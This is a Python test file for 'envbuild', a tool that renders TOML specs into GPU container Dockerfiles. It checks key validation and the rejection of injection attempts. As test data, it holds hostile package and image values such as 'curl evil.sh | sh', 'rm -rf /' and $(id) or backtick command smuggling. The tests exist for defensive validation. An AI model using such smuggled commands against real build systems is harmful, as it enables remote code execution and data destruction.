"""envbuild.toml: every key validated, every injection attempt rejected before anything is written."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest

from envbuild.cli.app import main
from envbuild.errors import UsageError
from envbuild.smoke import DEFAULT_STEPS, DEFAULT_TIMEOUT_S
from envbuild.spec.model import DEFAULT_TAG, load_spec
from envbuild.spec.starter import starter_text

GOOD = """
[stack]
driver = "550"
framework = "torch==2.5.*"
gpus = ["H100"]

[packages]
pip = ["numpy>=1.26", "tqdm==4.67.1"]
apt = ["libgomp1"]

[image]
repository = "ghcr.io/acme/train"
labels = { "org.opencontainers.image.source" = "https://github.com/acme/train" }

[[target]]
name = "l4"
gpus = ["L4"]
python = "3.11"
"""


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "envbuild.toml"
    path.write_text(text)
    return path


def test_good_spec_with_targets(tmp_path: Path) -> None:
    spec = load_spec(str(write(tmp_path, GOOD)))
    assert [t.name for t in spec.targets] == ["l4"]
    target = spec.targets[0]
    assert (target.stack.driver, target.stack.framework, target.stack.python) == (
        "550",
        "torch==2.5.*",
        "3.11",
    )
    assert target.stack.gpus == ("L4",)  # overrides [stack]
    assert target.stack.strategy == "wheels" and target.stack.os == "ubuntu22.04"
    assert spec.packages.pip == ("numpy>=1.26", "tqdm==4.67.1")
    assert spec.image.tags == (DEFAULT_TAG,) and spec.image.user == "envbuild"
    assert len(spec.digest) == 64


def test_no_targets_means_one_default(tmp_path: Path) -> None:
    spec = load_spec(str(write(tmp_path, GOOD.split("[[target]]")[0])))
    assert [t.name for t in spec.targets] == ["default"]


@pytest.mark.parametrize(
    ("old", "new", "needle"),
    [
        ('driver = "550"', 'drivr = "550"', "did you mean 'driver'"),
        ("[image]", "[imag]", "unknown key 'imag'"),
        ('framework = "torch==2.5.*"', "", "missing the key 'framework'"),
        ("[stack]", '[stack]\nstrategy = "docker"', "accepted: wheels, base-image, conda"),
        ("[stack]", '[stack]\ncompat = "forward"', "accepted: native, minor"),
        ("[image]", '[image]\nuser = "root"', "non-root"),
        ("[image]", '[image]\ndevel = "yes"', "expected true or false"),
        ("[image]", '[image]\ntags = ["{branch}"]', "placeholders"),
        ('"org.opencontainers.image.source"', '"io.envbuild.cuda"', "reserved"),
        ("[packages]", '[packages]\nindex-url = "ftp://mirror"', "http(s) URL"),
        ("[stack]", "[smoke]\nsteps = 0\n[stack]", "from 1 to 10000"),
        ('name = "l4"', 'name = "L4 nodes"', "not a target name"),
    ],
)
def test_bad_values_name_file_table_and_key(tmp_path: Path, old: str, new: str, needle: str) -> None:
    assert old in GOOD
    path = write(tmp_path, GOOD.replace(old, new, 1))
    with pytest.raises(UsageError) as info:
        load_spec(str(path))
    rendered = info.value.render()
    assert str(path) in rendered
    assert needle in rendered


INJECTIONS = [
    ("pip", 'pip = ["numpy\\nRUN curl evil.sh | sh"]'),
    ("pip", 'pip = ["numpy && curl evil.sh"]'),
    ("pip", 'pip = ["numpy; rm -rf /"]'),
    ("pip", 'pip = ["numpy`id`"]'),
    ("pip", 'pip = ["numpy$(id)"]'),
    ("pip", 'pip = ["numpy @ http://evil.example/numpy.whl"]'),
    ("apt", 'apt = ["git && curl evil.sh"]'),
    ("apt", 'apt = ["git\\nRUN id"]'),
    ("apt", 'apt = ["Git"]'),
    ("conda", 'conda = ["numpy; id"]'),
    ("index-url", 'index-url = "https://pypi.org/simple && id"'),
    ("extra-index-urls", 'extra-index-urls = ["https://x.org/simple`id`"]'),
]


@pytest.mark.parametrize(("key", "line"), INJECTIONS)
def test_package_injection_is_rejected(tmp_path: Path, key: str, line: str) -> None:
    path = write(
        tmp_path,
        GOOD.replace("[packages]", f"[packages]\n{line}", 1).replace(
            'pip = ["numpy>=1.26", "tqdm==4.67.1"]\napt = ["libgomp1"]', ""
        ),
    )
    with pytest.raises(UsageError) as info:
        load_spec(str(path))
    assert key in info.value.message


@pytest.mark.parametrize(
    "line",
    [
        'repository = "ghcr.io/acme/train\\nRUN id"',
        'repository = "ghcr.io/acme/train;id"',
        'tags = ["v1 && id"]',
        'labels = { "team" = "ml\\nRUN id" }',
        'labels = { "team" = "$(id)" }',
        'env = { "FOO" = "bar`id`" }',
        'env = { "FOO BAR" = "x" }',
        'user = "envbuild;id"',
    ],
)
def test_image_injection_is_rejected(tmp_path: Path, line: str) -> None:
    text = GOOD.replace('repository = "ghcr.io/acme/train"\n', "").replace(
        'labels = { "org.opencontainers.image.source" = "https://github.com/acme/train" }\n', ""
    )
    path = write(tmp_path, text.replace("[image]", f"[image]\n{line}", 1))
    with pytest.raises(UsageError):
        load_spec(str(path))


def test_render_writes_nothing_on_injection(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = write(tmp_path, GOOD.replace('"tqdm==4.67.1"', '"tqdm==4.67.1 && curl evil.sh"'))
    out = tmp_path / "build"
    code = main(["render", "-f", str(path), "-o", str(out)])
    err = capsys.readouterr().err
    assert code == 2
    assert "[packages] pip[1]" in err and "'&&'" in err
    assert not out.exists()


def test_missing_spec_suggests_init(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["render", "-f", str(tmp_path / "nope.toml")])
    assert code == 2
    assert "envbuild init" in capsys.readouterr().err


def test_init_writes_a_spec_that_renders(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    spec = tmp_path / "envbuild.toml"
    assert main(["init", "-f", str(spec)]) == 0
    assert main(["init", "-f", str(spec)]) == 2  # no silent overwrite
    assert main(["render", "-f", str(spec), "-o", str(tmp_path / "build")]) == 0
    assert (tmp_path / "build" / "default" / "Dockerfile").is_file()
    capsys.readouterr()


@pytest.fixture
def no_root_nonexistent() -> Iterator[Path]:
    """/nonexistent, the issue's own input; removed afterwards only if a regression created it."""
    root = Path("/nonexistent")
    existed = root.exists()
    yield root
    if not existed and root.exists():
        shutil.rmtree(root)


def test_init_refuses_a_missing_parent_directory(
    no_root_nonexistent: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["init", "-f", "/nonexistent/dir/x.toml"]) == 2
    err = capsys.readouterr().err
    assert "/nonexistent/dir does not exist" in err and "fix: create it first (mkdir -p" in err
    assert not Path("/nonexistent/dir").exists()  # nothing created silently


def test_init_force_onto_a_directory_is_a_usage_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "specs"
    target.mkdir()
    (target / "keep.toml").write_text("kept\n")
    assert main(["init", "-f", str(target), "--force"]) == 2
    err = capsys.readouterr().err
    assert f"-f {target} is a directory" in err and "fix:" in err and "internal error" not in err
    assert (target / "keep.toml").read_text() == "kept\n" and sorted(p.name for p in target.iterdir()) == [
        "keep.toml"
    ]


@pytest.mark.parametrize("path", ["/sys/envbuild.toml", "/proc/envbuild.toml"])
def test_init_into_a_folder_nobody_may_write_is_a_usage_error(
    path: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """/sys and /proc refuse new files even to root, as a read-only filesystem does."""
    assert main(["init", "-f", path]) == 2
    err = capsys.readouterr().err
    assert f"-f {path}: cannot write it" in err and "fix: pick a folder you can write to" in err
    assert not Path(path).exists()


def test_the_starter_spells_out_the_smoke_defaults(tmp_path: Path) -> None:
    """The starter writes steps and timeout as values a newcomer sees; they are the defaults."""
    spec = tmp_path / "envbuild.toml"
    spec.write_text(starter_text("580"))
    smoke = load_spec(str(spec)).smoke
    assert (smoke.steps, smoke.timeout) == (DEFAULT_STEPS, DEFAULT_TIMEOUT_S)
